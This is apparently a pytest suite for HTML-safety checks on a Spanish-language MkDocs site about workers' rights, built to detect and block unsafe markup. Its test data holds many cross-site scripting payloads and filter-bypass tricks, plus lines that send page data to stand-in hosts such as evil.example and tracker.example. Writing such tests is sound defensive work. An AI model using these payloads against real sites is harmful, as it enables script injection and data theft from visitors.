"""Unsafe HTML, checked in the rendered page body (build_tools.checks.html_safety)
and at the Markdown source (build_tools.checks.safety, build_tools.checks.pages)."""

import re
from pathlib import Path

import markdown
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from mkdocs.config import load_config

from build_tools.checks import html_safety
from build_tools.checks.html_safety import MESSAGES, check_page_html, find_unsafe_html, plainly_safe
from build_tools.checks.pages import check_page
from build_tools.checks.safety import find_unsafe
from project import ROOT, run_build

SHOWN = "docs/es/hogar/aguinaldo.md"
EVENT, STYLE, HIDDEN = MESSAGES["event"], MESSAGES["style"], MESSAGES["hidden"]
JAVASCRIPT = MESSAGES["url"].format("javascript")


def tag(name: str) -> str:
    return MESSAGES["tag"].format(name)


@pytest.fixture(scope="session")
def render():
    """Markdown to HTML with the project's own extensions and settings."""
    config = load_config(str(ROOT / "mkdocs.yml"))
    md = markdown.Markdown(extensions=config.markdown_extensions, extension_configs=config.mdx_configs)
    return lambda text: md.reset().convert(text)


# Ways past the first source check, each confirmed in a built page or in
# Python-Markdown's output with the project's extensions:
# (id, Markdown, line of the problem, message)
BYPASSES = [
    ("attr-list-heading", "Texto.\n\n## Cuánto { onclick=\"alert(1)\" }", 3, EVENT),
    ("attr-list-heading-with-id", "## Cuánto {#cuanto onmouseover=\"alert(1)\"}", 1, EVENT),
    ("attr-list-link", "Llama [aquí](https://www.gob.mx/profedet){ onclick=\"alert(1)\" }.", 1, EVENT),
    ("attr-list-reference-link", "Ver [aquí][p]{: onfocus=alert(1) }.\n\n[p]: https://www.gob.mx", 1, EVENT),
    ("attr-list-paragraph", "Un párrafo.\n{: onclick=\"alert(1)\" }", 2, EVENT),
    ("attr-list-image", "![logo](https://www.gob.mx/logo.png){: onerror=\"alert(1)\" }", 1, EVENT),
    ("attr-list-emphasis", "*importante*{: onmouseover=alert(1) }", 1, EVENT),
    ("attr-list-table-cell", "| a |\n|---|\n| b { onclick=alert(1) } |", 3, EVENT),
    ("attr-list-fence", "```{ .text onclick=\"alert(1)\" }\ncódigo\n```", 1, EVENT),
    ("attr-list-hiding-style", "Texto oculto.\n{: style=\"display:none\" }", 2, STYLE),
    ("attr-list-hidden", "Texto oculto.\n{: hidden }", 2, HIDDEN),
    ("quote-then-attribute", '<div title="x"onclick="alert(1)">\nhola\n</div>', 1, EVENT),
    ("slash-separator", "<img/onerror=alert(1)/src=https://www.gob.mx/x.png>", 1, EVENT),
    ("greater-than-in-a-value", '<a title=">" onclick="alert(1)">x</a>', 1, EVENT),
    ("escaped-backticks", "Ver \\`<img src=x onerror=alert(1)>\\` aquí.", 1, EVENT),
    ("code-span-in-html-block", "<div>`<img src=x onerror=alert(1)>`</div>", 1, EVENT),
    ("unclosed-fence", "Texto.\n\n```\n<img src=x onerror=alert(1)>", 4, EVENT),
    ("indented-fence", " ```\n\n<img src=x onerror=alert(1)>\n\n ```", 3, EVENT),
    ("fence-with-words", "```no es código\n\n<img src=x onerror=alert(1)>\n\n```", 3, EVENT),
    ("link-target-on-next-line", "[pulsa](\njavascript:alert(1))", 2, JAVASCRIPT),
    ("svg-set-href", "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>", 1, JAVASCRIPT),
    ("srcset-second-candidate", '<img srcset="https://www.gob.mx/a.png 1x, javascript:alert(1) 2x">', 1, JAVASCRIPT),
    ("unquoted-hiding-style", "<span style=display:none>oculto</span>", 1, STYLE),
    ("entity-in-hiding-style", '<span style="display&colon;none">oculto</span>', 1, STYLE),
    ("css-escape-in-hiding-style", '<span style="di\\73play: none">oculto</span>', 1, STYLE),
    ("hidden-attribute", "<span hidden>oculto</span>", 1, HIDDEN),
    ("link-element", '<link rel="stylesheet" href="https://evil.example/x.css">', 1, tag("link")),
]

# Where a browser and Python's HTML parser read the same text differently:
# the first source check's patterns caught these; a parser-based check has
# to take care of them
PARSER_TRAPS = [
    ("noscript-raw-text", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', 1, tag("noscript")),
    ("textarea-raw-text", '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>', 1, tag("textarea")),
    ("cdata-ends-at-first-gt", "<![CDATA[><img src=x onerror=alert(1)>]]>", 1, EVENT),
    ("empty-comment", "Texto <!--><img src=x onerror=alert(1)>-->", 1, EVENT),
]

# What the first source check already caught
CLASSIC = [
    ("script", "<script>fetch('https://evil.example/?p=' + location)</script>", 1, tag("script")),
    ("iframe", '<iframe src="https://evil.example"></iframe>', 1, tag("iframe")),
    ("object", '<object data="x.swf"></object>', 1, tag("object")),
    ("embed", '<embed src="x.swf">', 1, tag("embed")),
    ("style-element", "<style>.md-content { display: none }</style>", 1, tag("style")),
    ("base", '<base href="https://evil.example/">', 1, tag("base")),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">', 1, tag("meta")),
    ("form", '<form action="https://evil.example"><input name="curp"></form>', 1, tag("form")),
    ("on-attribute", '<img src="x.png" onerror="alert(1)">', 1, EVENT),
    ("on-attribute-uppercase", '<A HREF="#cuanto" ONCLICK="alert(1)">x</A>', 1, EVENT),
    ("on-attribute-next-line", '<a href="#cuanto"\n   onmouseover="alert(1)">x</a>', 1, EVENT),
    ("javascript-link", "[pulsa](javascript:alert(1))", 1, JAVASCRIPT),
    ("javascript-link-entities", "[pulsa](&#106;avascript:alert(1))", 1, JAVASCRIPT),
    ("javascript-reference", "[pulsa][x]\n\n[x]: javascript:alert(1)", 3, JAVASCRIPT),
    ("javascript-with-tab", '<a href="jav&#9;ascript:alert(1)">x</a>', 1, JAVASCRIPT),
    ("svg-xlink", "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>", 1, JAVASCRIPT),
    ("data-image", "![x](data:image/svg+xml;base64,PHN2Zz4=)", 1, MESSAGES["url"].format("data")),
    ("hiding-style", '<span style="display:none">texto oculto</span>', 1, STYLE),
]


def external(website: str) -> str:
    return MESSAGES["external"].format(website)


# A file fetched from another website as the page opens: that website
# learns who reads the guide (and an SVG animation that sets an event handler)
FETCHED_ELSEWHERE = [
    ("markdown-image", "Mira:\n\n![logo](https://tracker.example/p.gif)", 3, external("tracker.example")),
    ("markdown-image-next-line", "![logo](\n//tracker.example/p.gif)", 2, external("tracker.example")),
    ("markdown-image-reference", "![logo][Logo]\n\n[logo]: https://tracker.example/p.gif", 3, external("tracker.example")),
    ("attr-list-image-src", '![logo](logo.png){: src="https://tracker.example/p.gif" }', 1, external("tracker.example")),
    ("img-protocol-relative", '<img src="//tracker.example/p.gif" alt="">', 1, external("tracker.example")),
    ("img-backslashes", '<img src="\\\\tracker.example\\p.gif" alt="">', 1, external("tracker.example")),
    ("img-entity-in-scheme", '<img src="&#104;ttps://tracker.example/p.gif" alt="">', 1, external("tracker.example")),
    ("srcset-candidate", '<img src="a.png" srcset="a.png 1x, https://tracker.example/b.png 2x" alt="">', 1, external("tracker.example")),
    ("audio", '<audio controls src="https://tracker.example/a.mp3"></audio>', 1, external("tracker.example")),
    ("video-poster", '<video controls poster="https://tracker.example/a.jpg"></video>', 1, external("tracker.example")),
    ("link-ping", '<a href="https://www.gob.mx" ping="https://tracker.example/ping">gob.mx</a>', 1, external("tracker.example")),
    ("style-url", '<span style="background: url(\'https://tracker.example/p.gif\')">x</span>', 1, external("tracker.example")),
    ("svg-image", '<svg><image href="https://tracker.example/p.png" width="9" height="9"/></svg>', 1, external("tracker.example")),
    ("svg-set-event-handler", '<svg><a><set attributeName="onclick" to="alert(1)"/><text y="20">x</text></a></svg>', 1, EVENT),
]

ALL = BYPASSES + PARSER_TRAPS + CLASSIC + FETCHED_ELSEWHERE
# The rendered check names the line of the attribute; the source check, of its tag
RENDERED_LINE = {"on-attribute-next-line": 2}


@pytest.mark.parametrize("case_id, markdown_text, line, expected", ALL, ids=[c[0] for c in ALL])
def test_the_rendered_body_check_finds_it_and_names_the_line(render, case_id, markdown_text, line, expected):
    line = RENDERED_LINE.get(case_id, line)
    problems = check_page_html(render(markdown_text), SHOWN, markdown_text)
    assert expected in [p.message for p in problems], render(markdown_text)
    assert (SHOWN, line) in [(p.path, p.line) for p in problems if p.message == expected]


@pytest.mark.parametrize("markdown_text, line, expected", [c[1:] for c in ALL], ids=[c[0] for c in ALL])
def test_the_source_check_finds_it_on_its_line(markdown_text, line, expected):
    assert (line, expected) in find_unsafe(markdown_text)


@pytest.mark.parametrize("markdown_text", [c[1] for c in ALL], ids=[c[0] for c in ALL])
def test_every_known_way_in_takes_the_full_parse(render, markdown_text):
    assert not plainly_safe(render(markdown_text))


ORDINARY = [
    "Mira `<script>` en el código: `{ onclick=x }`",  # code spans are shown as text...
    "```html\n<script>alert(1)</script>\n<p onclick=\"x\">\n```",  # ...and so are fenced blocks
    "## Cuánto me toca {#cuanto}",
    "![El recibo](recibo.png) y [la PROFEDET](https://www.gob.mx/profedet)",
    "Te toca {{ aguinaldo.dias }}.",
    "[el aguinaldo](aguinaldo.md#cuanto) y <https://www.gob.mx/profedet>",
    '<a href="tel:8007172942">800 717 2942</a> <span style="font-size: 0.9em; opacity: 0.8">nota</span>',
    "Una persona online o en línea; one, once y only no son atributos.",
    '<svg viewBox="0 0 24 24"><title>Teléfono</title><path d="M0 0h24v24H0z"/></svg>',
]


@pytest.mark.parametrize("markdown_text", ORDINARY)
def test_ordinary_markdown_renders_to_a_safe_body(render, markdown_text):
    html = render(markdown_text)
    assert find_unsafe_html(html) == [], html


# Any style attribute and any SVG take the full parse
@pytest.mark.parametrize("markdown_text", [text for text in ORDINARY if "<svg" not in text and "style=" not in text])
def test_ordinary_markdown_skips_the_full_parse(render, markdown_text):
    assert plainly_safe(render(markdown_text))


def test_a_comment_the_checker_does_not_read_again_keeps_the_quick_look():
    assert plainly_safe("<p>Texto <!-- nota --> y <!-- <img src=x> --></p>")


@pytest.mark.parametrize("style, hides", [
    ("display: none", True), ("DISPLAY:NONE", True), ("visibility:hidden", True), ("font-size: 0", True),
    ("font-size:0px", True), ("opacity:.0", True), ("display:/**/none", True),
    ("font-size: 0.9em", False), ("opacity: 0.8", False), ("opacity:.5", False), ("display: block", False),
    # CSS escapes past Unicode, zero and surrogates read as U+FFFD, not as an error
    ("content: '\\ffffff'", False), ("content: '\\0'", False), ("content: '\\d800'", False),
])
def test_hiding_styles(style, hides):
    assert html_safety.hides_text(style) is hides


def test_a_marked_section_the_parser_does_not_know_is_read_as_a_browser_does():
    assert [f.kind for f in find_unsafe_html("<![ x ]><img src=x onerror=alert(1)>")] == ["event"]


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>!/[]-=\"' \n`{}:#.aonsvgcriptx&;")), max_size=80))
def test_any_text_gives_findings_not_a_traceback(text):
    find_unsafe_html(text)
    find_unsafe(text)


# HTML-ish text from the pieces the quick look has to take care of:
# every kind of finding, the ways to spell them (case, entities, control
# characters, separators, quotes) and what the parser reads differently
_TAG_NAMES = [
    "p", "a", "img", "div", "span", "b", "option", "section", "settings", "titles", "svgs",
    "svg", "SVG", "math", "title", "set", "animate", "script", "ScRiPt", "noscript", "textarea",
    "xmp", "plaintext", "style", "iframe", "form", "link", "lin\u212a", "meta", "base", "object",
    "image", "use", "feImage", "images",
]
_ATTRIBUTE_NAMES = [
    "onclick", "ONERROR", "on", "onx", "oN", "style", "STYLE", "styles", "hidden", "Hidden", "hiddenx",
    "h\u0130dden", "href", "HREF", "src", "srcset", "imagesrcset", "xlink:href", "action", "formaction",
    "poster", "data", "background", "ping", "attributeName", "to", "values", "from", "by", "class",
    "id", "title", "type", "data-on", "=onclick", "x", "", "rel", "REL",
]
_ATTRIBUTE_VALUES = [
    "", "x", "href", "xlink:href", "/ruta/", "#cuanto", "https://www.gob.mx/a.png", "tel:800",
    "javascript:alert(1)", "JaVaScRiPt:x", " javascript:x", "java\tscript:x", "java\x00script:x",
    "&#106;avascript:x", "&#x6A;avascript:x", "&#106avascript:x", "java&Tab;script:x", "jav&#9;ascript:x",
    "javascript&colon;x", "javaſcript:x", "data:image/png;base64,AA", "vbscript:x", "file:///x", "dat&#97;:x",
    "https://www.gob.mx/a.png 1x, javascript:x 2x", "a.png 1x,javascript:x", "x;javascript:x",
    "display:none", "DISPLAY: NONE", "display&colon;none", "di\\73play:none", "display:/**/none",
    "font-size:0", "opacity:.0", "visibility:hidden", "font-size: 0.9em", "dc-calc__form",
    "dc-share__native", "application/json", "&amp;", "&notit", "&", "<", ">", "=", "'", '"', "/",
    "onclick", " ONMOUSEOVER", "//tracker.example/p.gif", "\\\\tracker.example\\p.gif", "/\t/tracker.example/p.gif",
    "&#47;/tracker.example/p.gif", "https:tracker.example", "img/recibo.png", "url(//tracker.example/p.gif)",
    "background:u\\72l(https://tracker.example/p.gif)",
    "stylesheet", "icon preload", "canonical", "PreConnect", "data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%3E",
    "DATA:image/png;base64,AA", "d&#97;ta:image/png,AA", "data:text/html,x", "https://derechos.example/x.png",
]
_SEPARATORS = st.sampled_from([" ", "  ", "/", "\n", "\t", "\x0c", "\r", "\xa0", "", '"', "'"])
_QUOTES = st.sampled_from(['"', "'", ""])


@st.composite
def _attributes(draw):
    name, value = draw(st.sampled_from(_ATTRIBUTE_NAMES)), draw(st.sampled_from(_ATTRIBUTE_VALUES))
    quote = draw(_QUOTES)
    equals = draw(st.sampled_from(["=", " = ", "==", ""]))
    return draw(_SEPARATORS) + name + (equals + quote + value + quote if equals else "")


@st.composite
def _start_tags(draw):
    attributes = "".join(draw(st.lists(_attributes(), max_size=4)))
    return "<" + draw(st.sampled_from(_TAG_NAMES)) + attributes + draw(st.sampled_from([">", "/>", " >", "", "/", " / >"]))


_OTHER_MARKUP = st.sampled_from([
    "</p>", "</a>", "</svg>", "</math>", "</ x>", "</>", "</", "<!-- nota -->", "<!-->", "<!--->",
    "<!-- a --!>", "--!>", "<!---->", "<!-- <b> -->", "<!--", "-->", "-- >", "<![CDATA[", "<![CDATA[>", "]]>",
    "<![ x ]>", "<![ x ]", "<!x>", "<!DOCTYPE html>", "<!>",
    "<?x>", "<", ">", "&amp;", "&lt;", "&#60;", "&#x3C;", "&", "hola ", "on ", "style ", "hidden ", "javascript:",
    "=", '"', "'", "\n", " ",
])


@settings(max_examples=1500, deadline=None)
@given(st.lists(st.one_of(_start_tags(), _OTHER_MARKUP), max_size=5).map("".join))
def test_the_quick_look_skips_the_parse_only_where_it_finds_nothing(html):
    if plainly_safe(html):
        # Without the allowance for our markup the parse finds the most
        assert find_unsafe_html(html, own_markup=False) == []


def test_the_quick_look_skips_no_tag_with_one_unsafe_attribute():
    # Every attribute name and value above, each way of quoting, also as
    # the value an SVG animation gives a link
    tags = [
        f"<{tag}{animates} {name}={quote}{value}{quote}>"
        for tag in ("a", "img", "set", "image") for animates in ("", " attributeName=href", " attributeName=src")
        for name in _ATTRIBUTE_NAMES if name for value in _ATTRIBUTE_VALUES for quote in ('"', "'", "")
    ] + [
        f"<{spelling}{end}" for name in _TAG_NAMES for spelling in (name, name.upper(), name.title())
        for end in (">", "/>", " x>", "\tx=y>")
    ]
    skipped_wrongly = [html for html in tags if plainly_safe(html) and find_unsafe_html(html, own_markup=False)]
    assert skipped_wrongly == []
    assert sum(map(plainly_safe, tags)) > len(tags) // 10  # the quick look is not always "no"


# -- The whole page as written (the theme's templates around the body) ------

PAGE = """<!doctype html><html lang="es"><head><meta charset="utf-8">
<link rel="icon" href="data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%3E%3C/svg%3E">
<link rel="canonical" href="https://derechos.example/hogar/">
<link rel="alternate" hreflang="en" href="https://other.example/en/">
<link rel="stylesheet" href="../assets/stylesheets/main.css">
<script>__md_scope=new URL("..",location)</script><style>.x{{color:red}}</style></head>
<body><form class="md-search__form" name="search"><input type="text" name="query"></form>
<button class="dc-share__native" hidden>Compartir</button>
<a href="https://www.gob.mx/profedet">PROFEDET</a> <a href="../despido/">Despido</a> <a href="vacaciones/">Vacaciones</a>
<img src="../assets/images/recibo.png" alt="Recibo">
<p>Text on a page: one online, src, javascript, data: no markup</p>
<button onclick>nada</button>
{}
<script src="../assets/javascripts/bundle.js"></script></body></html>"""

WRITTEN_PAGE_CASES = [
    ('<button type="button" onclick="alert(1)">Compartir</button>', "event"),
    ('<div class="x"ONMOUSEOVER=alert(1)>x</div>', "event"),
    ('<svg><set attributeName="&#111;nclick" to="alert(1)"/></svg>', "event"),
    ('<a href="javascript:alert(1)">x</a>', "url"),
    ('<a href=" &#106;avascript:alert(1)">x</a>', "url"),
    ('<a href="java\tscript:alert(1)">x</a>', "url"),
    ('<a href="data:text/html,x">x</a>', "url"),
    ('<iframe src="data:image/svg+xml,%3Csvg%20onload=alert(1)%3E"></iframe>', "url"),
    ('<link rel="stylesheet" href="https://fonts.googleapis.com/css?family=Roboto">', "external"),
    ('<link rel="preconnect" href="//fonts.gstatic.com">', "external"),
    ('<!-- x --><link rel=icon href=https://tracker.example/favicon.ico>', "external"),
    ('<script src="https://cdn.example/analytics.js"></script>', "external"),
    ('<img src="\\\\tracker.example\\p.gif" alt="">', "external"),
    ('<img srcset="a.png 1x, https://tracker.example/b.png 2x" alt="">', "external"),
    ('<div style="background:u\\72l(https://tracker.example/p.gif)">x</div>', "external"),
    ('<svg><use href="https://tracker.example/icons.svg#x"/></svg>', "external"),
]


@pytest.mark.parametrize("markup, kind", WRITTEN_PAGE_CASES, ids=[kind + "-" + str(n) for n, (_, kind) in enumerate(WRITTEN_PAGE_CASES)])
def test_the_written_page_check_finds_what_no_page_may_hold(markup, kind):
    html = PAGE.format(markup)
    assert not html_safety.page_plainly_safe(html, "derechos.example")
    found = html_safety.find_unsafe_in_written_page(html, "derechos.example")
    assert [f.kind for f in found] == [kind]
    assert found[0].line == html.splitlines().index(markup) + 1


def test_the_theme_s_own_markup_passes_the_written_page_check():
    """Scripts, style sheets, forms, hidden controls, an inline icon, links
    and the site's own address: the theme's page needs them all."""
    html = PAGE.format("")
    assert html_safety.find_unsafe_in_written_page(html) == []
    assert html_safety.page_plainly_safe(html)
    # Text that looks like an attribute takes the parse, which finds nothing
    html = PAGE.format("<p>make serve ONLY=nah</p>")
    assert not html_safety.page_plainly_safe(html)
    assert html_safety.find_unsafe_in_written_page(html) == []
    # A file on the site's own address (SITE_URL), and without SITE_URL on another website
    html = PAGE.format('<img src="https://Derechos.Example:443/x.png" alt="">')
    assert html_safety.find_unsafe_in_written_page(html, "derechos.example") == []
    assert [f.detail for f in html_safety.find_unsafe_in_written_page(html)] == ["Derechos.Example:443"]


@settings(max_examples=1500, deadline=None)
@given(st.lists(st.one_of(_start_tags(), _OTHER_MARKUP), max_size=5).map("".join))
def test_the_written_page_quick_look_skips_the_parse_only_where_it_finds_nothing(html):
    if html_safety.page_plainly_safe(html, "derechos.example"):
        assert html_safety._parse(html, True, True, "derechos.example") == []


def test_the_written_page_quick_look_skips_no_tag_with_one_unsafe_attribute():
    tags = [
        f"<{tag}{extra} {name}={quote}{value}{quote}>"
        for tag in ("a", "img", "set", "image", "link", "iframe")
        for extra in ("", " attributeName=href", " attributeName=onclick", " rel=stylesheet")
        for name in _ATTRIBUTE_NAMES if name for value in _ATTRIBUTE_VALUES for quote in ('"', "'", "")
    ]
    skipped_wrongly = [html for html in tags if html_safety.page_plainly_safe(html) and html_safety._parse(html, True, True, None)]
    assert skipped_wrongly == []
    assert sum(map(html_safety.page_plainly_safe, tags)) > len(tags) // 10  # the quick look is not always "no"


def test_a_written_page_problem_is_placed_in_the_template_that_wrote_it():
    templates = [
        ("overrides/main.html", '{% extends "base.html" %}\n<meta name="referrer" content="no-referrer">'),
        ("overrides/partials/share.html", '<div class="dc-share">\n  <button type="button" onclick="share()">{{ t("share") }}</button>\n</div>'),
    ]
    bad = PAGE.format('<button type="button" onclick="share()">Compartir</button>')
    templates = [("mkdocs.yml", "site_name: Derechos Claros\ncopyright: Derechos Claros"), *templates]
    pages = [("index.html", PAGE.format("")), ("hogar/index.html", bad), ("en/hogar/index.html", bad)]
    problems = html_safety.check_written_pages(pages, "derechos.example", lambda: templates)
    assert [str(p) for p in problems] == [
        f"overrides/partials/share.html:2: {MESSAGES['event']} (in the built page hogar/index.html and 1 more)"
    ]
    # From a setting that mkdocs.yml gives the theme
    settings = PAGE.format('<footer>Derechos Claros <img src=x onerror=alert(1)></footer>')
    sources = [("mkdocs.yml", "site_name: Derechos Claros\ncopyright: Derechos Claros <img src=x onerror=alert(1)>"), *templates]
    problems = html_safety.check_written_pages([("index.html", settings), ("404.html", settings)], "derechos.example", lambda: sources)
    assert [str(p) for p in problems] == [f"mkdocs.yml:2: {MESSAGES['event']} (in the built page index.html and 1 more)"]
    # Found nowhere else: its line in the first page as written
    elsewhere = PAGE.format('<a href="javascript:history.back()">Volver</a>')
    line = elsewhere.splitlines().index('<a href="javascript:history.back()">Volver</a>') + 1
    problems = html_safety.check_written_pages([("404.html", elsewhere), ("en/404.html", elsewhere)], "derechos.example", lambda: templates)
    assert [str(p) for p in problems] == [f"404.html:{line}: {MESSAGES['url'].format('javascript')} (in the built page 404.html and 1 more)"]


def test_the_templates_are_read_only_when_a_page_has_a_finding():
    def templates():
        raise AssertionError("read without a finding")

    assert html_safety.check_written_pages([("index.html", PAGE.format(""))], "derechos.example", templates) == []


def test_code_is_skipped_at_the_source_only_where_markdown_makes_it_code():
    fenced = "```html\n<script>alert(1)</script>\n```"
    assert find_unsafe(fenced) == []
    # Markdown leaves a code span inside an HTML block as it is
    assert find_unsafe("<div>`<script>alert(1)</script>`</div>") == [(1, tag("script"))]


def test_a_finding_with_no_trace_in_the_source_names_the_file():
    # Markup that came from a fact or a renderer, not from the page's words
    problems = check_page_html('<p><a href="javascript:alert(1)">x</a></p>', SHOWN, "Te toca {{ dato }}.")
    assert [(p.path, p.line, p.message) for p in problems] == [(SHOWN, None, JAVASCRIPT)]


def test_repeated_findings_get_their_own_lines(render):
    text = "Uno.\n{: onclick=a }\n\nDos.\n{: onclick=b }"
    assert [p.line for p in check_page_html(render(text), SHOWN, text)] == [2, 5]


def test_our_renderers_markup_is_allowed_only_in_the_rendered_body():
    own = (
        '<script type="application/json" class="dc-calc__data">{"a":1}</script>'
        '<form class="dc-calc__form" id="dc-calc-1" novalidate hidden><p class="dc-calc__error" hidden></p></form>'
    )
    assert find_unsafe_html(own) == []
    # A writer who copies it is stopped at the source
    assert {message for _, message in find_unsafe(own)} == {tag("script"), tag("form"), HIDDEN}


@pytest.mark.parametrize("html, expected", [
    ('<form class="dc-calc__form" action="https://evil.example"></form>', tag("form")),
    ('<script class="dc-calc__data">alert(1)</script>', tag("script")),
    ('<script type="application/json" class="dc-calc__data" src="https://evil.example/x.js"></script>', tag("script")),
    ('<p class="dc-calc__form" onclick="alert(1)">x</p>', EVENT),
])
def test_the_allowance_for_our_markup_is_narrow(html, expected):
    assert expected in [html_safety.message(f) for f in find_unsafe_html(html)]


# Front matter: the theme shows the title as HTML and puts the description
# into an attribute; summary items are Markdown on the printable sheet.
@pytest.mark.parametrize("header, line, expected", [
    ("title: Aguinaldo<img src=x onerror=alert(1)>", 2, EVENT),
    ('title: "\\x3cscript>alert(1)\\x3c/script>"', 2, tag("script")),
    ("description: 'Cuánto te toca\" onmouseover=\"alert(1)'", 2, "the description may not contain straight double quotes"),
    ('title: Aguinaldo\nsummary:\n  - "Te toca <img src=x onerror=alert(1)>."', 4, EVENT),
    ("audio:\n  file: audio/a.mp3\n  title: '<a href=\"javascript:alert(1)\">x</a>'", 4, JAVASCRIPT),
])
def test_front_matter_values_are_checked_with_their_line(header, line, expected):
    problems = check_page(f"---\n{header}\n---\n\n# Aguinaldo\n", SHOWN)
    assert any(p.line == line and expected in p.message for p in problems), problems


def test_project_pages_pass_the_source_check():
    pages = sorted((ROOT / "docs").rglob("*.md"))
    assert len(pages) > 50
    problems = [p for page in pages for p in check_page(page.read_text(encoding="utf-8"), str(page))]
    assert problems == []


_ARTICLE = re.compile(r'<article class="md-content__inner md-typeset">(.*?)</article>', re.S)


@pytest.mark.build
def test_every_built_page_body_passes(built_site: Path):
    """The real site: facts, calculators, notices, share bar and sources list."""
    bodies = {}
    for path in sorted(built_site.rglob("*.html")):
        if match := _ARTICLE.search(path.read_text(encoding="utf-8")):
            bodies[path.relative_to(built_site).as_posix()] = match.group(1)
    assert len(bodies) > 100
    assert any('class="dc-calc__form"' in body for body in bodies.values())
    found = {page: [html_safety.message(f) for f in find_unsafe_html(body)] for page, body in bodies.items()}
    assert {page: messages for page, messages in found.items() if messages} == {}
    # The check is given the body before the theme adds the share bar
    # (whose buttons start hidden), the listen control (hidden until the phone
    # has a voice) and the printed page's footer (an SVG
    # code); of that body, only the calculators' and self-checks' need the full parse
    checked = {page: _THEME_PARTS.sub("", body) for page, body in bodies.items()}
    assert all(not any(part in body for part in ("dc-tools", "dc-print", "dc-listen")) for body in checked.values())
    assert {page for page, body in checked.items() if not plainly_safe(body)} == {
        page for page, body in checked.items() if 'class="dc-calc__form"' in body or 'class="dc-self-check"' in body
    }


@pytest.mark.build
def test_every_written_page_passes_mostly_without_the_parse(deployed_site: Path):
    """The real site as deployed (the build checked it before its last steps
    changed it; they add nothing this check finds). The quick look decides
    for nearly every page: the parse costs about 3 ms per page."""
    pages = {path.relative_to(deployed_site).as_posix(): path.read_text(encoding="utf-8") for path in deployed_site.rglob("*.html")}
    assert len(pages) > 400
    assert {path: found for path, html in pages.items() if (found := html_safety.find_unsafe_in_written_page(html))} == {}
    parsed = [path for path, html in pages.items() if not html_safety.page_plainly_safe(html)]
    assert len(parsed) <= len(pages) // 20, parsed


_THEME_PARTS = re.compile(
    r'<div class="dc-tools".*?</div>|<aside class="dc-print">.*?</aside>'
    r'|<div class="dc-listen".*?</div>',
    re.S,
)


# A Markdown extension a contributor adds to mkdocs.yml writes its own
# attributes: no source check can see them, the check of the rendered page does
ATTRIBUTE_ADDER = '''
from markdown import Extension
from markdown.treeprocessors import Treeprocessor


class AddAttribute(Treeprocessor):
    def run(self, root):
        for element in root.iter("p"):
            element.set("onmouseover", "fetch('https://tracker.example/' + location)")
            return


class AttributeAdder(Extension):
    def extendMarkdown(self, md):
        md.treeprocessors.register(AddAttribute(md), "attribute_adder", 1)


def makeExtension(**kwargs):
    return AttributeAdder(**kwargs)
'''


@pytest.mark.build
def test_the_build_stops_on_an_attribute_only_the_rendered_page_has(project_copy: Path, tmp_path: Path):
    (project_copy / "attribute_adder.py").write_text(ATTRIBUTE_ADDER, encoding="utf-8")
    config = project_copy / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("markdown_extensions:\n", "markdown_extensions:\n  - attribute_adder\n", 1), encoding="utf-8")
    site = tmp_path / "site"
    # Only the Spanish page and its place in the site are read
    result = run_build(project_copy, site, only_lang="es")
    assert result.returncode != 0
    assert f"docs/es/hogar/aguinaldo.md: {EVENT}" in result.stderr
    assert "Traceback" not in result.stderr
    assert not (site / "hogar" / "aguinaldo" / "index.html").exists()
